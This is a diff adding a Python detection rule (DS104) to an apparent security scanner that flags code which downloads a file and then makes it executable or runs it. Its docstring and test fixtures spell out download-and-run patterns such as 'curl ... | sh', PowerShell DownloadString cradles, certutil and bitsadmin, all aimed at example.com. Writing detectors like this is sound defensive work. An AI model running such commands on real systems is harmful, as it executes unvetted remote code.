@@ -1,0 +1,195 @@
+"""DS104 download-and-execute: a file fetched from the network and then made executable or run."""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+
+import libcst as cst
+
+from datasec_scan.model import Category, Confidence, Severity
+from datasec_scan.rule import Rule
+from datasec_scan.semantics.constants import fold, fold_str
+
+from ._remote import (DOWNLOAD_EXEC_COMMANDS, NETWORK, SOCKET, Analyzer, any_match, argument, code_of,
+                      keyword, match_command, positional, short)
+
+_DOWNLOAD_TO_FILE = ("urllib.request.urlretrieve", "urllib.urlretrieve", "wget.download", "requests.get().iter_content",
+                     "ftplib.FTP().retrbinary")
+_WRITE_METHODS = ("write", "writelines", "write_bytes", "write_text")
+_OPENERS = ("builtins.open", "io.open", "codecs.open", "pathlib.Path().open", "builtins.open().__enter__")
+_INTERPRETERS = ("sh", "bash", "zsh", "dash", "python", "python3", "powershell", "pwsh", "cmd", "cmd.exe", "msiexec",
+                 "perl", "node", "ruby", "wscript", "cscript", "rundll32", "/bin/sh", "/bin/bash", "sudo", "chmod")
+_EXEC_BITS = ("S_IEXEC", "S_IXUSR", "S_IXGRP", "S_IXOTH", "S_IRWXU")
+
+
+@dataclass
+class _Scope:
+    downloads: list[tuple[cst.CSTNode, frozenset[str], str]] = field(default_factory=list)
+    runs: list[tuple[cst.Call, frozenset[str], str, bool]] = field(default_factory=list)  # (call, keys, what, runs)
+
+
+class DownloadAndExecute(Rule):
+    """A file fetched from the network and then made executable or run; `curl | sh` and PowerShell cradles.
+
+    ## What it does
+    Within one function (or at module level) finds a download to disk — `urlretrieve`,
+    `wget.download`, writing a `requests`/`urllib` response body to a file — followed by
+    `os.chmod` with execute bits, or running the same path with `subprocess`, `os.system`,
+    `os.startfile` or `os.exec*`. Also finds download-and-run command strings handed to a
+    spawner: `curl ... | sh`, `wget ... && chmod +x`, `powershell -EncodedCommand`,
+    `IEX (New-Object Net.WebClient).DownloadString(...)`, `certutil -urlcache`, `bitsadmin /transfer`.
+
+    ## Why is this bad?
+    It runs a program chosen by whoever controls the server at the time of the download — a
+    second stage no reviewer ever saw, which can change after the package was vetted.
+
+    ## Example
+    ```python
+    import os, subprocess, urllib.request
+    urllib.request.urlretrieve("https://example.com/agent", "/tmp/agent")
+    os.chmod("/tmp/agent", 0o755)
+    subprocess.Popen(["/tmp/agent"])
+    ```
+
+    ## How to fix
+    Ship what you need in the package, or depend on it as a package with pinned hashes; never run
+    downloaded binaries or scripts.
+
+    ## References
+    - CWE-494: Download of Code Without Integrity Check
+    - CWE-506: Embedded Malicious Code
+    - MITRE ATT&CK T1105 (Ingress Tool Transfer), T1059 (Command and Scripting Interpreter)
+    """
+
+    code = "DS104"
+    name = "download-and-execute"
+    category = Category.REMOTE_ACCESS
+    severity = Severity.HIGH
+    confidence = Confidence.HIGH
+    cwe = (494, 506)
+    attack = ("T1105", "T1059")
+    triggers = ("urlretrieve", "wget", "curl", "requests", "urlopen", "httpx", "DownloadString", "EncodedCommand",
+                "-enc", "certutil", "bitsadmin", "iwr", "Invoke-WebRequest", "mshta", "__import__", "getattr",
+                "import_module", "b64decode", "\\x", "subprocess", "system", "popen", "startfile")
+    VALID = (
+        "import subprocess\nsubprocess.run(['git', 'clone', 'https://example.com/repo.git'])\n",
+        "import urllib.request\nurllib.request.urlretrieve('https://example.com/data.csv', 'data.csv')\n"
+        "import pandas\npandas.read_csv('data.csv')\n",
+    )
+    INVALID = (
+        "import os, subprocess, urllib.request\nurllib.request.urlretrieve('https://example.com/a', '/tmp/a')\n"
+        "os.chmod('/tmp/a', 0o755)\nsubprocess.Popen(['/tmp/a'])\n",
+        "import os\nos.system('curl -fsSL https://example.com/install.sh | sh')\n",
+    )
+
+    def __init__(self, context) -> None:
+        super().__init__(context)
+        self._scopes: list[_Scope] = []
+
+    def visit_Module(self, node: cst.Module) -> None:
+        self._scopes.append(_Scope())
+
+    def leave_Module(self, original_node: cst.Module) -> None:
+        self._finish(self._scopes.pop())
+
+    def visit_FunctionDef(self, node: cst.FunctionDef) -> None:
+        self._scopes.append(_Scope())
+
+    def leave_FunctionDef(self, original_node: cst.FunctionDef) -> None:
+        self._finish(self._scopes.pop())
+
+    def _keys(self, expr: cst.BaseExpression | None) -> frozenset[str]:
+        """What identifies a path: its folded value and the variable names it is built from."""
+        if expr is None:
+            return frozenset()
+        an = Analyzer.of(self.context)
+        keys: set[str] = set()
+        value = fold_str(expr, an.names)
+        if value:
+            keys.add("=" + value.strip().strip("\"'"))
+
+        class _Names(cst.CSTVisitor):
+            def visit_Name(self, node: cst.Name) -> None:
+                if node.value not in ("True", "False", "None", "os", "path", "str", "open"):
+                    keys.add(node.value)
+
+        expr.visit(_Names())
+        return frozenset(keys)
+
+    def visit_Call(self, node: cst.Call) -> None:
+        an = Analyzer.of(self.context)
+        scope = self._scopes[-1]
+        qualified = an.call_names(node)
+        spawn = an.spawn(node)
+        if spawn is not None:
+            text = an.command_text(node)
+            label = match_command(text, DOWNLOAD_EXEC_COMMANDS) if text else None
+            if label:
+                self.report(node, f"{spawn[1]} downloads and runs code ({label}): `{short(text or '')}`",
+                            severity=Severity.HIGH, confidence=Confidence.HIGH)
+                return
+            scope.runs.append((node, self._program_keys(node), f"runs it with {spawn[1]}", True))
+            return
+        if any_match(qualified, _DOWNLOAD_TO_FILE):
+            dest = argument(node, 1, "filename") or keyword(node, "out")
+            if dest is not None:
+                scope.downloads.append((node, self._keys(dest), code_of(dest, 40)))
+            return
+        if "os.chmod" in qualified or "pathlib.Path().chmod" in qualified:
+            args = positional(node)
+            mode = args[1] if len(args) > 1 else (args[0] if args and "pathlib" in str(qualified) else keyword(node, "mode"))
+            value = fold(mode, an.names) if mode is not None else None
+            mode_text = code_of(mode, 80) if mode is not None else ""
+            if isinstance(value, int) and value & 0o111 or any(bit in mode_text for bit in _EXEC_BITS):
+                target = args[0] if args and "os.chmod" in qualified else (
+                    node.func.value if isinstance(node.func, cst.Attribute) else None)
+                scope.runs.append((node, self._keys(target), "makes it executable", False))
+            return
+        if isinstance(node.func, cst.Attribute) and node.func.attr.value in _WRITE_METHODS:
+            data = positional(node)[0] if positional(node) else None
+            if data is None:
+                return
+            sources = an.sources(data)
+            if not ({NETWORK, SOCKET} & set(sources)):
+                return
+            dest = self._write_target(node.func.value, an)
+            if dest is not None:
+                scope.downloads.append((node, self._keys(dest), code_of(dest, 40)))
+
+    def _write_target(self, receiver: cst.BaseExpression, an: Analyzer) -> cst.BaseExpression | None:
+        """The path a file object or Path was opened on: `open(p, 'wb').write`, `f.write` with f bound to open(p)."""
+        if isinstance(receiver, cst.Name):
+            receiver = an.names.single_value(receiver.value) or receiver
+        if isinstance(receiver, cst.Call):
+            qualified = an.call_names(receiver)
+            if qualified & {"builtins.open", "io.open", "codecs.open"}:
+                return argument(receiver, 0, "file")
+            if any(q.startswith("pathlib.") for q in qualified):
+                return receiver
+        return None
+
+    def _program_keys(self, call: cst.Call) -> frozenset[str]:
+        an = Analyzer.of(self.context)
+        args = positional(call)
+        first = args[0] if args else keyword(call, "args")
+        if isinstance(first, cst.Name):
+            first = an.names.single_value(first.value) or first
+        if isinstance(first, (cst.List, cst.Tuple)) and first.elements:
+            keys = set(self._keys(first.elements[0].value))
+            program = fold_str(first.elements[0].value, an.names) or ""
+            if program.rsplit("/", 1)[-1].lower() in _INTERPRETERS and len(first.elements) > 1:
+                keys |= self._keys(first.elements[1].value)
+            return frozenset(keys)
+        return self._keys(first)
+
+    def _finish(self, scope: _Scope) -> None:
+        if not scope.downloads or not scope.runs:
+            return
+        for call, keys, what, runs in scope.runs:
+            for download, dest_keys, dest in scope.downloads:
+                if keys & dest_keys:
+                    severity = Severity.CRITICAL if runs else Severity.HIGH
+                    self.report(call, f"downloaded file `{dest}` {what}", severity=severity,
+                                confidence=Confidence.HIGH if runs else Confidence.MEDIUM,
+                                flow=((download, f"downloads to `{dest}`"), (call, what)))
+                    break
